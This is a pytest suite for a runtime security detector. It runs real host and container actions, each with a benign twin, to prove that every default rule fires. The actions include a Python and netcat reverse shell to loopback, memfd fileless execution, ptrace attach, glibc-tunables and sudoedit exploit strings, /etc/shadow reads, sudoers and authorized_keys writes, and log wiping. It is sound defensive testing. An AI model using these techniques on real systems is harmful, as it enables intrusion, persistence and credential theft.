"""test_default_rules.py — every rule of saker's embedded default rules
(rules/saker_*.yaml) proven live: for each rule a real action on this
machine (on the host and/or in a podman container) must make that rule
fire, and a benign twin of the action must make no rule fire at all.

One saker runs for the whole module with the default rules (no -r) and
rule_matching: all; the actions run one after the other and the alerts are
attributed to them afterwards: host actions by process id (the action's
pid or an ancestor pid, added to every alert with append_output), container
actions by container id and event time window. An action may also raise the
rules listed in its `also` (a reverse shell made with netcat is also a
netcat with -e); any other rule is a failure.

Needs root and kernel BTF (skips loudly otherwise); the container cases
need podman (scripts/containers/setup-podman.sh) and skip without it.
Rules that need a field saker does not fill yet are xfail with the reason.
"""
import json
import os
import pathlib
import shlex
import shutil
import socket
import subprocess
import sys
import threading
import time
import uuid

import pytest
import yaml

import containers_rt as rt
from test_live import HOST_SH, Saker, live_unavailable, skip_loudly

ROOT = pathlib.Path(__file__).resolve().parents[2]
RULES_DIR = ROOT / "rules"
SETTLE = 3.0  # seconds after the last action for its alerts to arrive
# SAKER_RULES_COMPARE=FILE[:FILE...] runs the same actions with those rules
# files instead of the defaults and only reports (test_summary) how many
# attack actions raised an alert and how many benign twins did.
COMPARE = [f for f in os.environ.get("SAKER_RULES_COMPARE", "").split(":") if f]
PY = sys.executable

# Every alert carries the pids needed to attribute it to an action.
CONFIG = """\
json_output: true
log_stderr: true
log_level: info
rule_matching: all
load_plugins: [container]
priority: debug
stdout_output:
  enabled: true
append_output:
  - match:
      source: syscall
    extra_fields: [proc.pid, proc.ppid, "proc.apid[2]", "proc.apid[3]", "proc.apid[4]"]
"""

# ------------------------------------------------------------ python snippets
# Small programs run with the test's python on the host. Each does one thing.

SNIP_REVERSE_SHELL = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
os.dup2(s.fileno(), 0)
os.dup2(s.fileno(), 1)
os.execv("/bin/sh", ["sh", "-c", "exit 0"])
"""
SNIP_PLAIN_SHELL = 'import os; os.execv("/bin/sh", ["sh", "-c", "exit 0"])'
SNIP_DUP_SOCKET = """
import os, socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
os.dup2(s.fileno(), 1)
"""
SNIP_DUP_FILE = 'import os; f = os.open("/dev/null", os.O_WRONLY); os.dup2(f, 1)'
SNIP_MEMFD = """
import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["payload"])
"""
SNIP_EXEC_TRUE = 'import os; os.execv("/bin/true", ["true"])'
SNIP_PTRACE = """
import ctypes, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
pid = int(sys.argv[1])
assert libc.ptrace(16, pid, 0, 0) == 0, ctypes.get_errno()   # PTRACE_ATTACH
os.waitpid(pid, 0) if False else time.sleep(0.1)
libc.ptrace(17, pid, 0, 0)                                   # PTRACE_DETACH
"""
SNIP_KILL0 = "import os, sys; os.kill(int(sys.argv[1]), 0)"
SNIP_TRACEME = "import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)"
SNIP_GETPID = "import ctypes; ctypes.CDLL(None).getpid()"
SNIP_FINIT_MODULE = """
import ctypes, os
fd = os.open("/bin/true", os.O_RDONLY)
ctypes.CDLL(None, use_errno=True).syscall(313, fd, b"", 0)   # finit_module: fails, not a module
"""
SNIP_OPEN_TRUE = 'import os; os.close(os.open("/bin/true", os.O_RDONLY))'
# BPF_PROG_LOAD of "r0 = 0; exit" as a socket filter; the twin only asks
# for the next program id (BPF_PROG_GET_NEXT_ID).
SNIP_BPF = """
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
cmd = int(sys.argv[1])
insns = ctypes.create_string_buffer(struct.pack("<BBhiBBhi", 0xb7, 0, 0, 0, 0x95, 0, 0, 0))
lic = ctypes.create_string_buffer(b"GPL")
if cmd == 5:
    attr = struct.pack("<IIQQIIQ", 1, 2, ctypes.addressof(insns), ctypes.addressof(lic), 0, 0, 0)
else:
    attr = struct.pack("<II", 0, 0)
attr = ctypes.create_string_buffer(attr + bytes(128 - len(attr)))
libc.syscall(321, cmd, attr, 128)
"""
# A mining pool's name, mapped in /etc/hosts (while the session runs) to a
# loopback address: fd.sip.name resolves the names the rules use at load.
POOL_NAME, POOL_IP = "minexmr.com", "127.0.0.5"

SNIP_CONNECT = """
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=2)
s.close()
"""


class Listener:
    """A TCP server on (ip, port) that accepts and closes connections, in a
    thread. port 0 picks a free one. `ok` is False when the address could
    not be bound (e.g. a real sshd holds it: connecting still works)."""

    def __init__(self, ip, port=0):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            self.s.bind((ip, port))
            self.ok = True
        except OSError:
            self.ok = False
            self.port = port
            return
        self.port = self.s.getsockname()[1]
        self.s.listen(16)
        self.s.settimeout(0.2)
        self.stop = threading.Event()
        self.t = threading.Thread(target=self._run, daemon=True)
        self.t.start()

    def _run(self):
        while not self.stop.is_set():
            try:
                c, _ = self.s.accept()
                c.close()
            except OSError:
                pass

    def close(self):
        if self.ok:
            self.stop.set()
            self.t.join(timeout=2)
        self.s.close()


def local_ip():
    """A non-loopback IPv4 address of this machine, or None."""
    try:
        out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"],
                             capture_output=True, text=True, timeout=10).stdout
    except (OSError, subprocess.TimeoutExpired):
        return None
    for line in out.splitlines():
        parts = line.split()
        if "inet" in parts:
            return parts[parts.index("inet") + 1].split("/")[0]
    return None


def default_rule_names():
    """The syscall rules of rules/saker_*.yaml (the k8s audit file has its
    own test, test_k8s_audit_rules.py)."""
    names = []
    for f in sorted(RULES_DIR.glob("saker_*.yaml")):
        for item in yaml.safe_load(f.read_text()) or []:
            if isinstance(item, dict) and "rule" in item and item.get("source", "syscall") == "syscall":
                names.append(item["rule"])
    return names


# ------------------------------------------------------------------- session

class Run:
    """Runs the actions, remembers how to find their alerts, and after
    settle() answers which rules each action raised."""

    def __init__(self, sk, tmp, tag):
        self.sk, self.tmp, self.tag = sk, tmp, tag
        self.actions = {}  # name -> dict(kind, pid|cid, t0, t1, error)

    def host(self, name, argv, env=None):
        """A host process (moved out of the session's cgroup first)."""
        t0 = time.time_ns()
        try:
            p = subprocess.Popen(["sh", "-c", HOST_SH, "sh", *argv], stdin=subprocess.DEVNULL,
                                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, env=env)
            p.wait(timeout=30)
            self.actions[name] = dict(kind="host", pid=p.pid, t0=t0, t1=time.time_ns())
        except (OSError, subprocess.TimeoutExpired) as e:
            self.actions[name] = dict(kind="error", error=str(e))

    def ctr(self, name, cid, argv, tty=False, runtime="podman"):
        """`podman exec` of argv in container cid (with a terminal if tty)."""
        cmd = rt.cli(runtime) + ["exec", *(["-it"] if tty else []), cid, *argv]
        if tty:
            cmd = ["script", "-qec", shlex.join(cmd), "/dev/null"]
        t0 = time.time_ns()
        r = subprocess.run(cmd, stdin=subprocess.DEVNULL, capture_output=True, text=True,
                           timeout=60)
        self.actions[name] = dict(kind="ctr", cid=cid, t0=t0, t1=time.time_ns(),
                                  note=(r.stdout + r.stderr)[-300:])

    def start(self, name, args, runtime="podman"):
        """A container run to completion: its alerts are those of its id."""
        cname = f"sk-rules-{self.tag}-" + "".join(c if c.isalnum() else "-" for c in name)
        t0 = time.time_ns()
        r = subprocess.run(rt.cli(runtime) + ["run", "-d", "--name", cname, *args, rt.IMAGE, "true"],
                           capture_output=True, text=True, timeout=120)
        if r.returncode != 0:
            self.actions[name] = dict(kind="error", error=r.stderr[-500:])
            return
        cid = r.stdout.strip().splitlines()[-1]
        subprocess.run(rt.cli(runtime) + ["wait", cid], capture_output=True, timeout=60)
        self.actions[name] = dict(kind="start", cid=cid, t0=t0, t1=time.time_ns())
        rt.remove(runtime, cid)

    def rules_of(self, name):
        """The set of rules the action raised, or None if it could not run."""
        a = self.actions.get(name)
        if a is None or a["kind"] == "error":
            return None
        out = set()
        for _, al in self.sk.alerts:
            f = al["output_fields"]
            if a["kind"] == "host":
                ids = {f.get(k) for k in ("proc.pid", "proc.ppid", "proc.apid[2]",
                                          "proc.apid[3]", "proc.apid[4]")}
                # pids are reused (pid_max is often 32768 and a busy machine
                # wraps it in minutes): the event must fall in the action's time
                t = f.get("evt.time")
                if a["pid"] in ids and (not isinstance(t, int) or a["t0"] <= t <= a["t1"]):
                    out.add(al["rule"])
            elif f.get("container.id") == a["cid"][:12]:
                t = f.get("evt.time")
                if a["kind"] == "start" or (isinstance(t, int) and a["t0"] <= t <= a["t1"]):
                    out.add(al["rule"])
        return out


def write(path, text="x\n", mode="w"):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, mode) as f:
        f.write(text)
    return path


def tool(tmp, name, src="/bin/true"):
    """A copy of src named name (so that proc.name is name) in its own dir."""
    d = tmp / "bin" / uuid.uuid4().hex[:6]
    d.mkdir(parents=True)
    dst = d / name
    shutil.copy2(src, dst)
    return str(dst)


def host_actions(run, tmp, tag):
    """The host cases. Files outside tmp are named with tag and removed."""
    lo = Listener("127.0.0.1")
    try:
        # process
        run.host("reverse shell", [PY, "-c", SNIP_REVERSE_SHELL, str(lo.port)])
        run.host("reverse shell/benign", [PY, "-c", SNIP_PLAIN_SHELL])
        run.host("dup socket", [PY, "-c", SNIP_DUP_SOCKET, str(lo.port)])
        run.host("dup socket/benign", [PY, "-c", SNIP_DUP_FILE])
    finally:
        lo.close()
    run.host("memfd", [PY, "-c", SNIP_MEMFD])
    run.host("memfd/benign", [PY, "-c", SNIP_EXEC_TRUE])
    shm = f"/dev/shm/sk-rules-{tag}"
    shutil.copy2("/bin/true", shm)
    try:
        run.host("dev shm", [shm])
    finally:
        os.unlink(shm)
    run.host("dev shm/benign", [tool(tmp, "true")])
    victim = subprocess.Popen(["sleep", "30"])
    try:
        run.host("ptrace", [PY, "-c", SNIP_PTRACE, str(victim.pid)])
        run.host("ptrace/benign", [PY, "-c", SNIP_KILL0, str(victim.pid)])
    finally:
        victim.kill()
        victim.wait()
    run.host("traceme", [PY, "-c", SNIP_TRACEME])
    run.host("traceme/benign", [PY, "-c", SNIP_GETPID])
    run.host("kmod", [PY, "-c", SNIP_FINIT_MODULE])
    run.host("kmod/benign", [PY, "-c", SNIP_OPEN_TRUE])
    run.host("bpf", [PY, "-c", SNIP_BPF, "5"])
    run.host("bpf/benign", [PY, "-c", SNIP_BPF, "11"])
    loot = write(tmp / "loot" / "config.txt", "aws_secret_access_key = none\nhello\n")
    run.host("cred search", ["grep", "-r", "aws_secret_access_key", str(loot.parent)])
    run.host("cred search/benign", ["grep", "-r", "hello", str(loot.parent)])
    node = tool(tmp, "node", "/bin/dash")
    run.host("server shell", [node, "-c", "sh -c 'exit 0'; true"])
    run.host("server shell/benign", [node, "-c", "/bin/true; true"])
    worker = tool(tmp, "skworker")
    run.host("miner", [worker, "-o", "stratum+tcp://pool.invalid:3333", "-u", "x"])
    run.host("miner/benign", [worker, "-o", "https://pool.invalid/", "-u", "x"])
    run.host("scanner", [tool(tmp, "nmap"), "-sS", "127.0.0.1"])
    run.host("scanner/benign", [tool(tmp, "mapper"), "-sS", "127.0.0.1"])
    nc = tool(tmp, "nc")
    run.host("nc exec", [nc, "-e", "/bin/sh", "127.0.0.1", "9"])
    run.host("nc exec/benign", [nc, "-z", "-w1", "127.0.0.1", "9"])
    run.host("account", [tool(tmp, "useradd"), "--help"])
    run.host("account/benign", [tool(tmp, "userlist"), "--help"])
    run.host("setuid", ["chmod", "u+s", str(write(tmp / "suid" / "a"))])
    run.host("setuid/benign", ["chmod", "u+x", str(write(tmp / "suid" / "b"))])
    if os.path.exists("/usr/bin/python3") and shutil.which("setpriv"):
        uffd = ["/usr/bin/python3", "-c", "import ctypes; ctypes.CDLL(None).syscall(323, 0)"]
        run.host("userfaultfd", ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                                 *uffd])
        run.host("userfaultfd/benign", uffd)
    sudoedit = tool(tmp, "sudoedit")
    run.host("sudoedit", [sudoedit, "-s", "x\\"])
    run.host("sudoedit/benign", [sudoedit, str(tmp / "notes.txt")])
    run.host("glibc tunables", ["env", "GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A",
                                "/bin/true"])
    run.host("glibc tunables/benign", ["env", "GLIBC_TUNABLES=glibc.malloc.mxfast=0", "/bin/true"])
    npm = tool(tmp, "npm", "/bin/dash")
    run.host("npm network tool", [npm, "-c", f"{nc} -h; true"])
    run.host("npm network tool/benign", [npm, "-c", "/bin/true; true"])
    fake_sshd = tool(tmp, "sshd", "/bin/cat")
    for v in ("5.6.1", "5.4.1"):
        write(tmp / "lib" / f"liblzma.so.{v}", "not a library\n")
    run.host("xz backdoor", [fake_sshd, str(tmp / "lib" / "liblzma.so.5.6.1")])
    run.host("xz backdoor/benign", [fake_sshd, str(tmp / "lib" / "liblzma.so.5.4.1")])
    if shutil.which("nsenter"):
        run.host("setns", ["sh", "-c", "exec nsenter -t $$ -n true"])
        run.host("setns/benign", ["nsenter", "-V"])

    # file
    run.host("shadow", ["cat", "/etc/shadow"])
    run.host("shadow/benign", ["cat", "/etc/hostname"])
    key = write(tmp / "home" / ".ssh" / "id_rsa", "not a key\n")
    write(tmp / "home" / ".ssh" / "id_rsa.pub", "not a key\n")
    run.host("private key", ["cat", str(key)])
    run.host("private key/benign", ["cat", str(key) + ".pub"])
    run.host("environ", ["cat", f"/proc/{os.getpid()}/environ"])
    run.host("environ/benign", ["cat", f"/proc/{os.getpid()}/stat"])
    for name, path in (("etc", f"/etc/sk-rules-{tag}"),
                       ("bin dir", f"/usr/local/bin/sk-rules-{tag}"),
                       ("sudoers", f"/etc/sudoers.d/sk-rules-{tag}"),
                       ("cron", f"/etc/cron.d/sk-rules-{tag}"),
                       ("service", f"/etc/systemd/system/sk-rules-{tag}.service"),
                       ("ld conf", f"/etc/ld.so.conf.d/sk-rules-{tag}.conf"),
                       ("dev file", f"/dev/sk-rules-{tag}")):
        existed = os.path.isdir(os.path.dirname(path))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        try:
            run.host(name, ["touch", path])
        finally:
            if os.path.exists(path):
                os.unlink(path)
            if not existed:
                os.rmdir(os.path.dirname(path))
        run.host(name + "/benign", ["touch", str(tmp / f"{name.replace(' ', '_')}-twin")])
    rc = tmp / "home" / ".bashrc"
    run.host("bashrc", ["sh", "-c", f"echo 'echo hi' >> {rc}"])
    run.host("bashrc/benign", ["sh", "-c", f"echo 'echo hi' >> {tmp / 'home' / 'notes.txt'}"])
    ak = tmp / "home" / ".ssh" / "authorized_keys"
    run.host("authorized keys", ["sh", "-c", f"echo 'ssh-ed25519 AAAA x' >> {ak}"])
    run.host("authorized keys/benign",
             ["sh", "-c", f"echo 'h ssh-ed25519 AAAA' >> {tmp / 'home' / '.ssh' / 'known_hosts'}"])
    links = tmp / "links"
    links.mkdir()
    run.host("symlink", ["ln", "-s", "/etc/shadow", str(links / "s")])
    run.host("hardlink", ["ln", "/etc/shadow", str(links / "h")])
    run.host("symlink/benign", ["ln", "-s", "/etc/hostname", str(links / "b")])
    for p in links.iterdir():
        p.unlink()
    log = f"/var/log/sk-rules-{tag}.log"
    write(log, "line\n", "a")
    try:
        run.host("log clear", ["sh", "-c", f": > {log}"])
        run.host("log clear/benign", ["sh", "-c", f"echo more >> {log}"])
    finally:
        os.unlink(log)
    hist = write(tmp / "home" / ".bash_history", "ls\n", "a")
    run.host("history", ["sh", "-c", f": > {hist}"])
    run.host("history/benign", ["sh", "-c", f": > {tmp / 'home' / 'notes.txt'}"])
    write(tmp / "wipe" / "a")
    if shutil.which("shred"):
        run.host("shred", ["shred", "-u", str(tmp / "wipe" / "a")])
        run.host("shred/benign", ["rm", "-f", str(tmp / "wipe" / "b")])
    run.host("dev file/benign2", ["touch", f"/dev/shm/sk-rules-{tag}"])
    if os.path.exists(f"/dev/shm/sk-rules-{tag}"):
        os.unlink(f"/dev/shm/sk-rules-{tag}")

    # network
    ip = local_ip()
    if ip:
        ssh = Listener("0.0.0.0", 22)
        try:
            run.host("ssh", [PY, "-c", SNIP_CONNECT, ip, "22"])
            run.host("ssh/benign", [PY, "-c", SNIP_CONNECT, "127.0.0.1", "22"])
        finally:
            ssh.close()
        domain = Listener(POOL_IP, 0)
        try:
            run.host("pool domain", [PY, "-c", SNIP_CONNECT, POOL_IP, str(domain.port)])
        finally:
            domain.close()
        pool = Listener(ip, 14444)
        other = Listener(ip, 0)
        try:
            if pool.ok:
                run.host("pool port", [PY, "-c", SNIP_CONNECT, ip, "14444"])
            run.host("pool port/benign", [PY, "-c", SNIP_CONNECT, ip, str(other.port)])
        finally:
            pool.close()
            other.close()


def container_actions(run, tmp, tag):
    """The container cases, in one long-lived container without network
    (c1) and one on the host network (c2), plus container starts."""
    run.start("ctr privileged", ["--privileged", "--network", "none"])
    run.start("ctr privileged/benign", ["--network", "none"])
    src = tmp / "data"
    src.mkdir(exist_ok=True)
    run.start("ctr host mount", ["--network", "none", "-v", "/etc:/hostetc:ro"])
    run.start("ctr host mount/benign", ["--network", "none", "-v", f"{src}:/data:ro"])
    c1 = rt.run_container("podman")
    name2 = f"sk-rules-{tag}-net"
    r = subprocess.run(["podman", "run", "-d", "--name", name2, "--network", "host", rt.IMAGE,
                        "sleep", "1000"], capture_output=True, text=True, timeout=120)
    c2 = r.stdout.strip().splitlines()[-1] if r.returncode == 0 else None
    try:
        if shutil.which("script"):  # util-linux: gives podman exec -it a terminal
            run.ctr("ctr terminal", c1, ["sh", "-c", "exit 0"], tty=True)
            run.ctr("ctr terminal/benign", c1, ["sh", "-c", "exit 0"])
        run.ctr("ctr package", c1, ["sh", "-c", "ln -sf /bin/busybox /tmp/apk; /tmp/apk"])
        run.ctr("ctr package/benign", c1, ["sh", "-c", "ln -sf /bin/busybox /tmp/ls; /tmp/ls /"])
        run.ctr("ctr network tool", c1, ["/bin/nc", "-h"])
        run.ctr("ctr network tool/benign", c1, ["/bin/ls", "/"])
        run.ctr("ctr download", c1, ["/bin/wget", "-q", "-T", "1", "http://127.0.0.1:9/"])
        run.ctr("ctr download/benign", c1, ["/bin/cat", "/etc/passwd"])
        run.ctr("ctr client", c1, ["sh", "-c", "ln -sf /bin/busybox /tmp/kubectl; /tmp/kubectl"])
        run.ctr("ctr client/benign", c1,
                ["sh", "-c", "ln -sf /bin/busybox /tmp/kubecfg; /tmp/kubecfg"])
        run.ctr("ctr escape", c1, ["/bin/mount"])
        run.ctr("ctr escape/benign", c1, ["/bin/df"])
        run.ctr("ctr userns", c1, ["/bin/unshare", "-U", "/bin/true"])
        run.ctr("ctr userns/benign", c1, ["/bin/true"])
        run.ctr("ctr release agent", c1,
                ["sh", "-c", "mkdir -p /tmp/cg && echo /x > /tmp/cg/release_agent"])
        run.ctr("ctr release agent/benign", c1, ["sh", "-c", "echo /x > /tmp/cg/notes"])
        run.ctr("ctr new executable", c1, ["sh", "-c", "cp /bin/busybox /tmp/tool"])
        run.ctr("ctr chmod executable", c1, ["sh", "-c", "echo > /tmp/s; chmod +x /tmp/s"])
        run.ctr("ctr new executable/benign", c1, ["sh", "-c", "echo hi > /tmp/data"])
        run.ctr("ctr drift exec", c1, ["/tmp/tool", "true"])
        run.ctr("ctr drift exec/benign", c1, ["/bin/busybox", "true"])
        run.ctr("ctr packet socket", c1, ["/bin/arping", "-c", "1", "-w", "1", "-I", "lo",
                                          "127.0.0.1"])
        run.ctr("ctr packet socket/benign", c1, ["/bin/true"])
        run.ctr("ctr metadata", c1, ["/bin/busybox", "nc", "-w", "1", "169.254.169.254", "80"])
        run.ctr("ctr metadata/benign", c1, ["/bin/busybox", "nc", "-w", "1", "10.255.255.1", "80"])
        run.ctr("ctr decode", c1, ["sh", "-c", "echo aGkK | base64 -d"])
        run.ctr("ctr decode/benign", c1, ["sh", "-c", "echo hi | base64"])
        run.ctr("ctr exe overwrite", c1, ["sh", "-c", "echo x > /proc/self/exe; true"])
        run.ctr("ctr exe overwrite/benign", c1, ["sh", "-c", "cat /proc/self/exe > /dev/null"])
        run.ctr("ctr cred search", c1, ["/bin/grep", "-r", "password", "/etc"])
        run.ctr("ctr cred search/benign", c1, ["/bin/grep", "-r", "root", "/etc"])
        if c2:
            lo = Listener("127.0.0.1")
            api = Listener("127.0.0.1", 6443)
            nodeport = Listener("127.0.0.1", 30080)
            try:
                run.ctr("ctr reverse shell", c2,
                        ["/bin/busybox", "nc", "127.0.0.1", str(lo.port), "-e", "/bin/sh", "-c", ":"])
                if api.ok:
                    run.ctr("ctr k8s api", c2, ["/bin/busybox", "nc", "-w", "1", "127.0.0.1", "6443"])
                if nodeport.ok:
                    run.ctr("ctr nodeport", c2,
                            ["/bin/busybox", "nc", "-w", "1", "127.0.0.1", "30080"])
                run.ctr("ctr k8s api/benign", c2,
                        ["/bin/busybox", "nc", "-w", "1", "127.0.0.1", str(lo.port)])
            finally:
                for x in (lo, api, nodeport):
                    x.close()
    finally:
        rt.remove("podman", *[c for c in (c1, c2) if c])


@pytest.fixture(scope="module")
def session(saker_bin, tmp_path_factory):
    why = live_unavailable()
    if why:
        skip_loudly(why)
    tmp = tmp_path_factory.mktemp("rules")
    conf = tmp / "saker.yaml"
    conf.write_text(CONFIG)
    rules = [a for f in COMPARE for a in ("-r", f)]
    hosts = pathlib.Path("/etc/hosts")
    hosts_saved = hosts.read_text()
    hosts.write_text(hosts_saved + f"\n{POOL_IP} {POOL_NAME}\n")
    try:
        sk = Saker(saker_bin, ["-c", str(conf), *rules], tmp)
    except BaseException:
        hosts.write_text(hosts_saved)
        raise
    tag = uuid.uuid4().hex[:8]
    run = Run(sk, tmp, tag)
    ctr_why = rt.setup("podman")
    try:
        if not sk.wait_log("Live capture started"):
            sk.stop()
            err = sk.stderr()
            if "needs root" in err or "BTF" in err:
                skip_loudly(err.strip().splitlines()[-1])
            pytest.fail(f"saker live did not come up:\n{err}")
        # the pipeline is live once a sensitive read is reported
        for _ in range(20):
            run.host("ready", ["cat", "/etc/shadow"])
            time.sleep(0.5)
            if "Sensitive File Read By Untrusted Program" in run.rules_of("ready"):
                break
        host_actions(run, tmp, tag)
        if not ctr_why:
            container_actions(run, tmp, tag)
        time.sleep(SETTLE)
    finally:
        rc = sk.stop()
        hosts.write_text(hosts_saved)
        # kept for debugging a failure: every alert of the run
        with open(tmp / "alerts.jsonl", "w") as f:
            for _, a in sk.alerts:
                f.write(json.dumps(a) + "\n")
    assert rc == 0, sk.stderr()[-2000:]
    yield run, ctr_why


# --------------------------------------------------------------------- cases
# (action, rule it must raise, other rules it may raise too). The benign twin
# of an action is "<action>/benign": it must raise nothing.

NEEDS = {}  # rule -> why it cannot fire yet (xfail): none today

CASES = [
    ("reverse shell", "Reverse Shell", {"Standard Stream Redirected To Socket"}),
    ("dup socket", "Standard Stream Redirected To Socket", set()),
    ("memfd", "Fileless Execution From Memory", set()),
    ("dev shm", "Execution From Shared Memory Directory", set()),
    ("ptrace", "Process Injection Via Ptrace", set()),
    ("traceme", "Ptrace Anti-Debugging", set()),
    ("kmod", "Kernel Module Load Attempt", set()),
    ("bpf", "BPF Program Loaded By Unexpected Program", set()),
    ("cred search", "Credential Search", set()),
    ("server shell", "Shell Spawned By Server Process", set()),
    ("miner", "Crypto Miner Started", set()),
    ("scanner", "Network Scanner Started", set()),
    ("nc exec", "Netcat Remote Code Execution", set()),
    ("account", "Account Management Outside Package Manager", set()),
    ("setuid", "Setuid Or Setgid Bit Set", set()),
    ("setns", "Namespace Entered By Unexpected Program", set()),
    ("glibc tunables", "Glibc Tunables Exploit Attempt", set()),
    ("npm network tool", "Network Tool Started By Package Install", set()),
    ("xz backdoor", "Backdoored Library Loaded By SSHD", set()),
    ("userfaultfd", "Userfaultfd By Unprivileged User", set()),
    ("sudoedit", "Sudo Privilege Escalation Attempt", set()),
    ("shadow", "Sensitive File Read By Untrusted Program", set()),
    ("private key", "Private Key Or Cloud Credential Read", set()),
    ("environ", "Process Environment Read", set()),
    ("etc", "Write Below Etc", set()),
    ("bin dir", "Write Below Binary Directory", set()),
    ("sudoers", "Sudoers Modified", set()),
    ("cron", "Scheduled Task Modified", set()),
    ("service", "System Service Created Or Modified", set()),
    ("ld conf", "Dynamic Linker Preload Modified", set()),
    ("dev file", "File Created Below Dev", set()),
    ("bashrc", "Shell Startup File Modified", set()),
    ("authorized keys", "SSH Authorized Keys Modified", set()),
    ("symlink", "Symlink Or Hardlink To Sensitive File", set()),
    ("hardlink", "Symlink Or Hardlink To Sensitive File", set()),
    ("log clear", "Log File Cleared", set()),
    ("history", "Shell History Tampering", set()),
    ("shred", "Data Destruction Tool Started", set()),
    ("ssh", "Outbound SSH Connection Not Allowed", set()),
    ("pool port", "Mining Pool Port Connection", set()),
    ("pool domain", "Mining Pool Domain Connection", set()),
    ("ctr terminal", "Terminal Shell In Container", set()),
    ("ctr package", "Package Manager In Container", set()),
    ("ctr network tool", "Network Tool In Container", set()),
    ("ctr download", "Download Tool In Container", set()),
    ("ctr client", "Cluster Client In Container", set()),
    ("ctr escape", "Container Escape Tool Executed", set()),
    ("ctr userns", "User Namespace Created In Container", set()),
    ("ctr release agent", "Release Agent Written In Container", set()),
    ("ctr new executable", "Executable Created In Container", set()),
    ("ctr chmod executable", "Executable Created In Container", set()),
    ("ctr drift exec", "Program Not From Image Executed In Container", set()),
    ("ctr packet socket", "Packet Socket In Container", set()),
    ("ctr metadata", "Cloud Metadata Contact From Container", set()),
    ("ctr cred search", "Credential Search", set()),
    ("ctr decode", "Payload Decoded In Container", set()),
    ("ctr exe overwrite", "Runtime Binary Overwrite Attempt", set()),
    ("ctr reverse shell", "Reverse Shell", {"Netcat Remote Code Execution",
                                            "Standard Stream Redirected To Socket"}),
    ("ctr k8s api", "Kubernetes API Contact From Container", set()),
    ("ctr nodeport", "NodePort Connection From Container", set()),
    ("ctr privileged", "Privileged Container Started", set()),
    ("ctr host mount", "Container With Sensitive Host Mount Started", set()),
]


def case_id(c):
    return c[0].replace(" ", "_")


def raised_by(session, action):
    """The rules the action raised; skips when it could not run here."""
    run, ctr_why = session
    if COMPARE:
        pytest.skip("comparison run (SAKER_RULES_COMPARE): see test_summary")
    if action.startswith("ctr ") and ctr_why:
        pytest.skip(f"podman: {ctr_why}")
    if action not in run.actions:
        pytest.skip(f"{action}: not run here (a tool, address or port it needs is missing)")
    got = run.rules_of(action)
    assert got is not None, run.actions[action]
    return run, got


@pytest.mark.parametrize("action,rule,also", CASES, ids=[case_id(c) for c in CASES])
def test_trigger(session, action, rule, also):
    if rule in NEEDS and action not in session[0].actions:
        pytest.xfail(NEEDS[rule])
    run, got = raised_by(session, action)
    if rule in NEEDS and rule not in got:
        pytest.xfail(NEEDS[rule])
    assert rule in got, f"{action}: {rule} did not fire (got {sorted(got)}; {run.actions[action]})"
    assert got <= {rule} | also, f"{action}: other rules fired too: {sorted(got - {rule} - also)}"


# The benign twins (some twins serve two cases: the chmod and the new file
# in a container, the loopback connections of the network cases).
BENIGN = [c[0] + "/benign" for c in CASES
          if c[0] not in ("hardlink", "ctr chmod executable", "pool domain", "ctr reverse shell",
                          "ctr nodeport", "ctr k8s api")]
BENIGN += ["ctr k8s api/benign", "dev file/benign2"]


@pytest.mark.parametrize("action", BENIGN, ids=[b.replace(" ", "_") for b in BENIGN])
def test_benign_twin(session, action):
    _, got = raised_by(session, action)
    assert not got, f"{action}: benign twin raised {sorted(got)}"


def test_every_default_rule_has_a_case():
    names = set(default_rule_names())
    assert len(names) >= 40
    covered = {c[1] for c in CASES}
    assert names == covered, f"rules without a live case: {sorted(names - covered)}; " \
                             f"cases naming no rule: {sorted(covered - names)}"


def test_summary(session):
    """Prints (pytest -s) how many attack actions raised at least one alert
    and how many benign twins raised any, for the rules in use."""
    run, _ = session
    attacks = sorted({c[0] for c in CASES} & set(run.actions))
    benign = sorted(set(BENIGN) & set(run.actions))
    hit = [a for a in attacks if run.rules_of(a)]
    noisy = [b for b in benign if run.rules_of(b)]
    which = "+".join(pathlib.Path(f).name for f in COMPARE) or "saker defaults"
    sys.stderr.write(f"\n{which}: {len(hit)}/{len(attacks)} attack actions detected, "
                     f"{len(noisy)}/{len(benign)} benign twins alerted\n"
                     f"  missed: {sorted(set(attacks) - set(hit))}\n  noisy: {noisy}\n")
    if not COMPARE:
        assert len(hit) >= len(attacks) - len(NEEDS)
